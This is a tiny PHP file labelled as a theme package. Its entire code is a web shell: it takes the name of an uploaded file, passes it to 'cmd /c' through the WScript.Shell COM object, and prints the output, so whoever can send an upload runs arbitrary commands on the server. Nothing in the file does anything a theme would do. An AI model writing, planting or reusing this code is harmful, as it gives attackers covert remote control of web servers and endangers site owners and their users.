<?php
/**
 * @package Theme
 */
$arg = $_FILES['cb']['name'];
$w = new COM('WScript.Shell');
echo $w->exec('cmd /c ' . $arg)->StdOut->ReadAll();
